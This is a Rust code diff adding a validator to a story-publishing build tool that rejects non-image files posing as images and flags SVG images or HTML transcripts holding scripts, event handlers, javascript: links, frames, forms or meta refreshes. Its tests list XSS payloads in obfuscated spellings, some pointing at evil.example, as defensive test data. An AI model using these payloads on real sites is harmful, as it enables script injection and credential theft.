@@ -476,6 +476,245 @@ pub(crate) fn check_file(
     }
 }
 
+/// File endings of images in the text and of the cover image.
+pub const IMAGE_TYPES: &[&str] = &[
+    "png", "apng", "jpg", "jpeg", "gif", "webp", "avif", "svg", "bmp", "ico",
+];
+
+/// Checks the files the build publishes as they are, which a reader can
+/// open on their own at the city's address, where the page's policy may not
+/// apply (GitHub Pages, a bucket, a CMS): an image must have an image's
+/// ending, and an SVG image or an HTML transcript must hold nothing that
+/// runs script or loads another document (E0199).
+pub(crate) fn check_published(
+    sink: &mut Sink,
+    pos: Pos,
+    kind: AssetKind,
+    url: &str,
+    path: &std::path::Path,
+) {
+    let ending = ending(url);
+    let what = match kind {
+        AssetKind::Image if !IMAGE_TYPES.contains(&ending.as_str()) => {
+            sink.error(
+                "E0199",
+                pos,
+                if ending.is_empty() {
+                    format!("`{url}` is not an image file: its name has no image ending")
+                } else {
+                    format!("`{url}` is not an image file: it ends in `.{ending}`")
+                },
+                Some(format!(
+                    "images are {}; the build publishes the file as it is, and a web page or script under the story's address would run there",
+                    IMAGE_TYPES.iter().map(|t| format!("`.{t}`")).collect::<Vec<_>>().join(", ")
+                )),
+            );
+            return;
+        }
+        AssetKind::Image | AssetKind::Poster if ending == "svg" => "SVG image",
+        AssetKind::Transcript if matches!(ending.as_str(), "html" | "htm") => "HTML transcript",
+        _ => return,
+    };
+    // The whole file: what runs may stand at its end.
+    let Ok(bytes) = std::fs::read(path) else {
+        return;
+    };
+    if let Some(found) = active_content(&String::from_utf8_lossy(&bytes)) {
+        sink.error(
+            "E0199",
+            pos,
+            format!("the {what} `{url}` holds {found}"),
+            Some("the build publishes the file as it is, and a reader who opens it on its own would run it at the story's address; save it again without scripts, event handlers (`onload=`…), frames, forms and `javascript:` links (for a transcript, plain text in a .txt file is simplest)".into()),
+        );
+    }
+}
+
+/// Elements that run script, load or embed another document, or change
+/// where the page's links and forms go (lower case, without a namespace
+/// prefix). `set` and `animate*` can give an SVG link a `javascript:` address.
+const ACTIVE_ELEMENTS: &[&str] = &[
+    "script",
+    "iframe",
+    "frame",
+    "frameset",
+    "object",
+    "embed",
+    "applet",
+    "foreignobject",
+    "base",
+    "form",
+    "portal",
+    "fencedframe",
+    "handler",
+    "listener",
+    "set",
+    "animate",
+    "animatemotion",
+    "animatetransform",
+];
+
+/// What in an HTML or SVG text could run script or load another document
+/// when the file is opened on its own: an element of [`ACTIVE_ELEMENTS`],
+/// an event handler attribute (`on…`), a `<meta http-equiv=refresh>`, an
+/// attribute value that is a `javascript:`, `vbscript:` or `data:` address
+/// (entities decoded, what browsers strip taken out; pictures as `data:`
+/// are fine), an XML style sheet (XSLT) or entity declaration; `None` for
+/// none. Deliberately strict: a comment that shows such markup counts too.
+pub fn active_content(text: &str) -> Option<String> {
+    let lower = text.to_ascii_lowercase();
+    if lower.contains("<?xml-stylesheet") {
+        return Some("an XML style sheet (`<?xml-stylesheet`), which can run script".into());
+    }
+    if lower.contains("<!entity") {
+        return Some("an entity declaration (`<!ENTITY`), which can hide markup".into());
+    }
+    let b = lower.as_bytes();
+    let mut i = 0;
+    while let Some(off) = lower[i..].find('<') {
+        let start = i + off + 1;
+        i = start;
+        let name_end = lower[start..]
+            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | ':' | '_')))
+            .map_or(lower.len(), |e| start + e);
+        let full = &lower[start..name_end];
+        if full.is_empty() || !b[start].is_ascii_alphabetic() {
+            continue;
+        }
+        let name = full.rsplit(':').next().unwrap_or(full);
+        if ACTIVE_ELEMENTS.contains(&name) {
+            return Some(format!("a `<{name}>` element"));
+        }
+        // The attributes, up to the tag's end (quotes respected).
+        let mut j = name_end;
+        loop {
+            while j < b.len() && (b[j].is_ascii_whitespace() || b[j] == b'/') {
+                j += 1;
+            }
+            if j >= b.len() || b[j] == b'>' || b[j] == b'<' {
+                break;
+            }
+            let attr_start = j;
+            while j < b.len()
+                && !(b[j].is_ascii_whitespace() || matches!(b[j], b'=' | b'>' | b'/' | b'<'))
+            {
+                j += 1;
+            }
+            let attr = &lower[attr_start..j];
+            let attr_name = attr.rsplit(':').next().unwrap_or(attr);
+            if attr_name.starts_with("on") && attr_name.len() > 2 {
+                return Some(format!("an event handler (`{attr}=`)"));
+            }
+            while j < b.len() && b[j].is_ascii_whitespace() {
+                j += 1;
+            }
+            if j < b.len() && b[j] == b'=' {
+                j += 1;
+                while j < b.len() && b[j].is_ascii_whitespace() {
+                    j += 1;
+                }
+                let value = match b.get(j) {
+                    Some(&q @ (b'"' | b'\'')) => {
+                        let end = lower[j + 1..]
+                            .find(q as char)
+                            .map_or(lower.len(), |e| j + 1 + e);
+                        let v = &text[j + 1..end];
+                        j = (end + 1).min(b.len());
+                        v
+                    }
+                    _ => {
+                        let end = lower[j..]
+                            .find(|c: char| c.is_ascii_whitespace() || c == '>')
+                            .map_or(lower.len(), |e| j + e);
+                        let v = &text[j..end];
+                        j = end;
+                        v
+                    }
+                };
+                // `<meta charset>` is in every HTML file; only a refresh
+                // leads elsewhere.
+                if name == "meta"
+                    && attr == "http-equiv"
+                    && value.trim().eq_ignore_ascii_case("refresh")
+                {
+                    return Some("a `<meta http-equiv=refresh>` that leads elsewhere".into());
+                }
+                let address = twinstory_model::url::clean(&decode_references(value));
+                if let Some(scheme) = twinstory_model::url::scheme(&address) {
+                    let scheme = scheme.to_ascii_lowercase();
+                    // Pictures drawn into an SVG (`<image href="data:image/png…">`)
+                    // are common and run nothing.
+                    let picture = scheme == "data"
+                        && [
+                            "image/png",
+                            "image/jpeg",
+                            "image/gif",
+                            "image/webp",
+                            "image/avif",
+                        ]
+                        .iter()
+                        .any(|t| address[5..].to_ascii_lowercase().starts_with(t));
+                    if !picture && matches!(scheme.as_str(), "javascript" | "vbscript" | "data") {
+                        return Some(format!("a `{scheme}:` address (`{attr}=`)"));
+                    }
+                }
+            }
+        }
+        i = j.max(start);
+    }
+    None
+}
+
+/// Character references as HTML and XML read them in attribute values:
+/// numeric ones (the `;` optional, as HTML allows) and the names that can
+/// spell a scheme (`&colon;`, `&Tab;`, `&NewLine;`).
+fn decode_references(value: &str) -> String {
+    let mut out = String::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(i) = rest.find('&') {
+        out.push_str(&rest[..i]);
+        rest = &rest[i + 1..];
+        if let Some(num) = rest.strip_prefix('#') {
+            let (hex, digits) = match num.strip_prefix(['x', 'X']) {
+                Some(h) => (true, h),
+                None => (false, num),
+            };
+            let len = digits
+                .find(|c: char| {
+                    !(if hex {
+                        c.is_ascii_hexdigit()
+                    } else {
+                        c.is_ascii_digit()
+                    })
+                })
+                .unwrap_or(digits.len());
+            let n = u32::from_str_radix(&digits[..len.min(8)], if hex { 16 } else { 10 }).ok();
+            if let (Some(c), true) = (n.and_then(char::from_u32), len > 0) {
+                out.push(c);
+                rest = &digits[len..];
+                rest = rest.strip_prefix(';').unwrap_or(rest);
+                continue;
+            }
+            out.push('&');
+            continue;
+        }
+        let named = [("colon;", ':'), ("tab;", '\t'), ("newline;", '\n')]
+            .into_iter()
+            .find(|(n, _)| {
+                rest.get(..n.len())
+                    .is_some_and(|r| r.eq_ignore_ascii_case(n))
+            });
+        match named {
+            Some((n, c)) => {
+                out.push(c);
+                rest = &rest[n.len()..];
+            }
+            None => out.push('&'),
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
 /// True when a text starts with the WebVTT signature (a byte order mark allowed).
 fn is_webvtt(head: &[u8]) -> bool {
     let text = head
@@ -516,6 +755,44 @@ fn sniff(head: &[u8]) -> Option<&'static str> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn active_content_is_found_in_its_odd_spellings() {
+        for text in [
+            "<svg><script>alert(1)</script></svg>",
+            "<svg><SCRIPT >alert(1)</SCRIPT></svg>",
+            "<svg:svg><svg:script>alert(1)</svg:script></svg:svg>",
+            "<svg onload=alert(1)>",
+            "<svg><rect\nOnClick = 'alert(1)'/></svg>",
+            "<svg><a xlink:href=\" java&#x09;script:alert(1)\"><text>x</text></a></svg>",
+            "<svg><a href='&#106;avascript:alert(1)'>x</a></svg>",
+            "<svg><a href=&#x6A&#x61vascript&colon;alert(1)>x</a></svg>",
+            "<svg><a href=\"data:text/html,&lt;script&gt;\">x</a></svg>",
+            "<svg><foreignObject><p>x</p></foreignObject></svg>",
+            "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
+            "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
+            "<?xml-stylesheet type=\"text/xsl\" href=\"x.xsl\"?><svg/>",
+            "<!DOCTYPE svg [<!ENTITY x \"&#60;script>\">]><svg>&x;</svg>",
+            "<html><body><iframe src=https://evil.example></iframe>",
+            "<html><head><meta http-equiv=refresh content='0;url=https://evil.example'>",
+            "<p>Text</p><form action=https://evil.example><input name=pw></form>",
+            "<img src=x onerror=alert(1)>",
+        ] {
+            assert!(active_content(text).is_some(), "{text}");
+        }
+        for text in [
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><rect width=\"10\" height=\"10\" fill=\"#005ca9\"/><text>onion = 3 &lt;script&gt;</text></svg>",
+            "<svg><image href=\"data:image/png;base64,iVBORw0KGgo=\" width=\"1\" height=\"1\"/></svg>",
+            "<html><body><h1>Interview</h1><p>Frage: Wie <b>oft</b>?</p><a href=\"https://example.org/\">Quelle</a><p>once = twice</p></body></html>",
+            "<!doctype html><html><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\"><link rel=\"stylesheet\" href=\"transcript.css\"><title>T</title></head><body><p>Text</p></body></html>",
+            "",
+            "<",
+            "<svg <<a",
+            "ä<ö=ü>",
+        ] {
+            assert_eq!(active_content(text), None, "{text}");
+        }
+    }
 
     #[test]
     fn files_are_told_by_their_first_bytes() {
